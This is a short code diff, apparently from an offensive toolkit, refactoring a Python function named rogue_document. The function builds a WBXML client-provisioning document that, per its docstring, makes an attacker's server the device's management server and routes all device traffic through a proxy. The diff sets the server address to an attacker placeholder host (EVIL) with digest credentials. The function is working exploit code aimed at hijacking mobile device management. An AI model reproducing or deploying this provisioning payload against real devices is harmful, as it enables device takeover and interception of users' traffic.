@@ -160,19 +160,8 @@ def forge_package_0(stage: Stage, choices: Choices) -> None:
 @lru_cache(maxsize=4)
 def rogue_document(server_id: str) -> bytes:
     """A CP document that makes the attacker's server the device's, and all its traffic go through a proxy."""
-    auth = tuple(
-        Characteristic(
-            "APPAUTH",
-            (
-                ("AAUTHLEVEL", level),
-                ("AAUTHTYPE", "DIGEST"),
-                ("AAUTHNAME", name),
-                ("AAUTHSECRET", EVIL),
-                ("AAUTHDATA", "AAAAAA=="),
-            ),
-        )
-        for level, name in (("APPSRV", "client"), ("CLIENT", server_id))
-    )
+    sides = (("APPSRV", "client"), ("CLIENT", server_id))
+    auth = tuple(cp.digest_proof(level, name, EVIL, "AAAAAA==") for level, name in sides)
     parms = (("APPID", "w7"), ("PROVIDER-ID", server_id), ("NAME", "Operator"), ("ADDR", f"https://{EVIL}/dm"))
     return cp.to_wbxml(Provisioning((Characteristic("APPLICATION", parms, auth),)))
 
